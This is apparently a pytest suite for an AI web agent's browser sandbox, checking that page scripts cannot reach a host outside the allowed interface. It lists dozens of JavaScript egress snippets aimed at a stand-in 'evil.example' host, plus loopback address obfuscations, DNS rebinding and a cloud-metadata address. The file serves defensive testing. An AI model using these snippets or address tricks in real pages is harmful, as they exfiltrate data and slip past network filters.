"""Every way a page can try to reach a host outside its interface ends in no connection, seen by the listening socket.

Each attempt also runs in a browser whose sandbox allows that host: there it must be heard, or the attempt proves
nothing.
"""

from __future__ import annotations

import asyncio
import socket
import time
from collections.abc import Iterator, Sequence

import pytest

from agent3.definitions import ActionType, NLWebAction, NLWebInterface
from agent3.errors import SecurityError
from agent3.nlweb import NLWebExecutor, NLWebSandbox
from agent3.protocols.nlweb.browser.sandbox import Guard, Overrides
from tests.support.sites import AIRLINE, Site

pytestmark = [pytest.mark.browser, pytest.mark.requirement("RF-013-46")]

SCRIPTS = {
    "image": "new Image().src = 'http://{ear}/pixel'",
    "image redirect": "new Image().src = '/redirect?to=http://{ear}/pixel'",
    "fetch": "fetch('http://{ear}/', {{mode: 'no-cors'}}).catch(() => 0)",
    "fetch redirect": "fetch('/redirect?to=http://{ear}/', {{mode: 'no-cors'}}).catch(() => 0)",
    "secure fetch": "fetch('https://{ear}/', {{mode: 'no-cors'}}).catch(() => 0)",
    "websocket": "new WebSocket('ws://{ear}/')",
    "secure websocket": "new WebSocket('wss://{ear}/')",
    "beacon": "navigator.sendBeacon('http://{ear}/', 'x')",
    "script": "document.body.append(Object.assign(document.createElement('script'), {{src: 'http://{ear}/x.js'}}))",
    "style": "document.head.insertAdjacentHTML('beforeend', `<link rel=stylesheet href='http://{ear}/x.css'>`)",
    "prefetch": "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='http://{ear}/x'>`)",
    "preload": "document.head.insertAdjacentHTML('beforeend', `<link rel=preload as=image href='http://{ear}/x'>`)",
    "iframe": "document.body.insertAdjacentHTML('beforeend', `<iframe src='http://{ear}/'></iframe>`)",
    "popup": "window.open('http://{ear}/')",
    "worker": "new Worker(URL.createObjectURL(new Blob([`fetch('http://{ear}/', {{mode: 'no-cors'}})`])))",
    "event source": "new EventSource('http://{ear}/')",
    "form": "document.body.insertAdjacentHTML('beforeend', `<form method=post action='http://{ear}/'>`);"
    "document.forms[0].submit()",
    "location": "location.href = 'http://{ear}/'",
    "meta refresh": "document.head.insertAdjacentHTML('beforeend', "
    "`<meta http-equiv=refresh content='0;url=http://{ear}/'>`)",
    "background": "document.body.style.backgroundImage = 'url(http://{ear}/x.png)'",
    "font": "new FontFace('x', 'url(http://{ear}/x.woff)').load().catch(() => 0)",
    "video": "document.body.insertAdjacentHTML('beforeend', `<video autoplay src='http://{ear}/x.mp4'></video>`)",
    "object": "document.body.insertAdjacentHTML('beforeend', `<object data='http://{ear}/x'></object>`)",
    "embed": "document.body.insertAdjacentHTML('beforeend', `<embed src='http://{ear}/x'>`)",
    "request": "const r = new XMLHttpRequest(); r.open('GET', 'http://{ear}/'); r.send()",
    "module": "import('http://{ear}/x.js').catch(() => 0)",
    "module preload": "document.head.insertAdjacentHTML('beforeend', "
    "`<link rel=modulepreload href='http://{ear}/x.js'>`)",
    "ping": "document.body.insertAdjacentHTML('beforeend', `<a id=p ping='http://{ear}/' href='#x'>x</a>`); p.click()",
    "download": "document.body.insertAdjacentHTML('beforeend', "
    "`<a id=d download href='http://{ear}/x'>x</a>`); d.click()",
    "iframe redirect": "document.body.insertAdjacentHTML('beforeend', "
    "`<iframe src='/redirect?to=http://{ear}/'></iframe>`)",
    "page in a frame": "document.body.insertAdjacentHTML('beforeend', "
    "`<iframe srcdoc=\"<img src='http://{ear}/x'>\"></iframe>`)",
    "data frame": "document.body.insertAdjacentHTML('beforeend', "
    "`<iframe src=\"data:text/html,<img src='http://{ear}/x'>\"></iframe>`)",
    "popup redirect": "window.open('/redirect?to=http://{ear}/')",
    "form into a popup": "document.body.insertAdjacentHTML('beforeend', "
    "`<form target=_blank action='http://{ear}/'>`); document.forms[0].submit()",
    "script address": "window.open(`javascript:location='http://{ear}/'`)",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('http://{ear}/', {{mode: 'no-cors'}})`])))",
    "worker import": "new Worker(URL.createObjectURL(new Blob([`importScripts('http://{ear}/x.js')`])))",
    "worker websocket": "new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://{ear}/')`])))",
    "relay over tcp": "const c = new RTCPeerConnection({{iceTransportPolicy: 'relay', iceServers: "
    "[{{urls: 'turn:{ear}?transport=tcp', username: 'u', credential: 'c'}}]}});"
    "c.createDataChannel('x'); c.setLocalDescription()",
}
SILENT = [
    "<link rel=preconnect href='http://{ear}/'>",
    "<link rel=dns-prefetch href='http://{ear}/'>",
    "<link rel=icon href='http://{ear}/x.ico'>",
    "<link rel=manifest href='http://{ear}/x'>",
    '<script type=speculationrules>{{"prefetch": [{{"urls": ["http://{ear}/"], "eagerness": "immediate"}}]}}</script>',
    '<script type=speculationrules>{{"prerender": [{{"urls": ["http://{ear}/"], "eagerness": "immediate"}}]}}</script>',
    "<script>globalThis.fetchLater?.('http://{ear}/', {{activateAfter: 0}})</script>",
    "<script>new WebTransport('https://{ear}/').ready.catch(() => 0)</script>",
    "<script>navigator.serviceWorker.register('/worker.js').catch(() => 0)</script>",
]
"""What this browser does not do even for a page that may: nothing must come of it."""


EVERYWHERE = [SCRIPTS[name] for name in ("image", "fetch", "websocket", "location")]
"""Those that are tried for every way to name a host."""
LITERALS = ["[::1]", "[::ffff:127.0.0.1]", "0x7f000001", "017700000001", "127.1", "0.0.0.0", "localhost.", "LOCALHOST"]


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with Site(AIRLINE) as site:
        yield site


@pytest.fixture
def ear() -> Iterator[Site]:
    """The host that must not be reached."""
    with Site({"/": "<title>outside</title>"}) as ear:
        yield ear


def browser(site: Site, sandbox: NLWebSandbox) -> NLWebExecutor:
    interface = NLWebInterface(interface_id="home", name="Home", base_url=site.url)
    # The names are known to the proxy, so that only the sandbox stands between the page and the ear.
    overrides = Overrides({"localhost": ("127.0.0.1", None), "evil.example": ("127.0.0.1", None)})
    return NLWebExecutor(interface, sandbox=sandbox, overrides=overrides)


@pytest.fixture(scope="module")
def held(site: Site) -> Iterator[NLWebExecutor]:
    with browser(site, NLWebSandbox([site.host])) as executor:
        yield executor


class Everywhere(NLWebSandbox):
    """No sandbox at all, for the counter-test."""

    def allows(self, host: str, port: int) -> bool:
        return True


@pytest.fixture(scope="module")
def free(site: Site) -> Iterator[NLWebExecutor]:
    with browser(site, Everywhere()) as executor:
        yield executor


def go(executor: NLWebExecutor, url: str) -> None:
    executor._execute_single_action(NLWebAction(action_type=ActionType.NAVIGATE, value=url))


def settle(executor: NLWebExecutor, ear: Site, refusals: int) -> None:
    """Until the attempt was refused by the proxy or heard by the ear."""
    session = executor._session
    assert session is not None
    end = time.monotonic() + 60
    while session.proxy.refusals == refusals and not ear.connections:
        assert time.monotonic() < end, "the page did not even try"
        time.sleep(0.01)


def attempt(executor: NLWebExecutor, ear: Site, host: str, script: str) -> None:
    session = executor._session
    assert session is not None
    go(executor, "/")
    refusals = session.proxy.refusals
    executor.page.evaluate(f"void setTimeout(() => {{ {script.format(ear=f'{host}:{ear.port}')} }})")
    settle(executor, ear, refusals)


@pytest.mark.parametrize("script", SCRIPTS.values(), ids=SCRIPTS.keys())
def test_no_script_of_a_page_reaches_a_forbidden_host(
    held: NLWebExecutor, free: NLWebExecutor, ear: Site, script: str
) -> None:
    for host in ("127.0.0.1", "localhost", "evil.example") if script in EVERYWHERE else ("evil.example",):
        attempt(held, ear, host, script)
        assert held._session is not None
        assert held._session.proxy.refused[-1] == f"{host}:{ear.port}"
    assert ear.connections == 0
    attempt(free, ear, "evil.example", script)
    assert ear.connections > 0


def test_what_a_browser_keeps_to_itself_reaches_nobody_either(held: NLWebExecutor, site: Site, ear: Site) -> None:
    place = f"evil.example:{ear.port}"
    site.pages["/silent"] = f"<!doctype html>{''.join(SILENT).format(ear=place)}"
    session = held._session
    assert session is not None
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", ear.port))
        datagrams.setblocking(False)
        go(held, "/silent")
        refusals = session.proxy.refusals
        held.page.evaluate(f"void setTimeout(() => {{ new Image().src = 'http://{place}/last' }}, 300)")
        settle(held, ear, refusals)
        assert ear.connections == 0
        with pytest.raises(BlockingIOError):
            datagrams.recv(2048)


@pytest.mark.parametrize("host", LITERALS)
def test_no_way_to_write_an_address_passes_the_list(held: NLWebExecutor, ear: Site, host: str) -> None:
    attempt(held, ear, host, SCRIPTS["image"])
    assert ear.connections == 0


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example", "0x7f.1", "2130706433"])
def test_a_redirect_to_a_forbidden_host_is_blocked(
    held: NLWebExecutor, free: NLWebExecutor, site: Site, ear: Site, host: str
) -> None:
    shown = "127.0.0.1" if host[0].isdigit() else host
    for scheme in ("http", "https"):
        path = f"/redirect?to={scheme}://{host}:{ear.port}/"
        with pytest.raises(SecurityError, match=rf"Navigation to .*{shown}:{ear.port}/? blocked"):
            go(held, path)
        assert site.requests[-1][1] == path
    assert ear.connections == 0
    if host == "evil.example":
        go(free, f"/redirect?to=http://{host}:{ear.port}/")
        assert free.page.title() == "outside"
        assert ear.connections > 0


def test_a_link_to_a_forbidden_host_fails_the_step_that_follows_it(held: NLWebExecutor, site: Site, ear: Site) -> None:
    site.pages["/link"] = f"<a id=out href='http://{ear.host}/'>out</a>"
    go(held, "/link")
    with pytest.raises(SecurityError, match=r"Navigation to .* blocked"):
        held._execute_single_action(
            NLWebAction(action_type=ActionType.CLICK, selector="#out", wait_for="pre", timeout=30)
        )
    assert ear.connections == 0


RTC = """async port => {
  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${port}`}]});
  peer.createDataChannel('x');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise(done => {
    const look = () => peer.iceGatheringState === 'complete' && done();
    peer.onicegatheringstatechange = look; look(); setTimeout(done, 1500);
  });
  const candidates = peer.localDescription.sdp.match(/a=candidate.*/g) ?? [];
  peer.close();
  return candidates;
}"""


def test_webrtc_sends_no_datagram_and_tells_no_address(held: NLWebExecutor) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        datagrams.setblocking(False)
        go(held, "/")
        assert held.page.evaluate(RTC, datagrams.getsockname()[1]) == []
        with pytest.raises(BlockingIOError):
            datagrams.recv(2048)


def test_a_name_that_moves_to_this_machine_is_not_followed_there(ear: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    """Rebinding: the first answer of a name is harmless, the next one is not; each connection is judged by its own."""
    asked: list[str] = []
    answers = [("93.184.215.14", ear.port), ("127.0.0.1", ear.port)]

    async def moving(host: str, port: int) -> Sequence[tuple[str, int]]:
        asked.append(host)
        return [answers[min(len(asked), 2) - 1]]

    monkeypatch.setattr("agent3.protocols.nlweb.browser.sandbox.resolve", moving)
    guard = Guard(NLWebSandbox([f"moving.example:{ear.port}"]), base_url=f"http://moving.example:{ear.port}")
    assert asyncio.run(guard.admit("moving.example", ear.port)) == [answers[0]]
    with pytest.raises(SecurityError, match="loopback"):
        asyncio.run(guard.admit("moving.example", ear.port))
    interface = NLWebInterface(interface_id="moving", name="Moving", base_url=f"http://moving.example:{ear.port}")
    with NLWebExecutor(interface) as executor, pytest.raises(SecurityError, match="blocked"):
        go(executor, "/")
    assert len(asked) >= 3
    assert ear.connections == 0


def test_one_bad_address_among_good_ones_refuses_the_name(monkeypatch: pytest.MonkeyPatch) -> None:
    async def both(host: str, port: int) -> Sequence[tuple[str, int]]:
        return [("93.184.215.14", port), ("169.254.169.254", port)]

    monkeypatch.setattr("agent3.protocols.nlweb.browser.sandbox.resolve", both)
    guard = Guard(NLWebSandbox(["mixed.example"]), base_url="http://mixed.example")
    with pytest.raises(SecurityError):
        asyncio.run(guard.admit("mixed.example", 80))
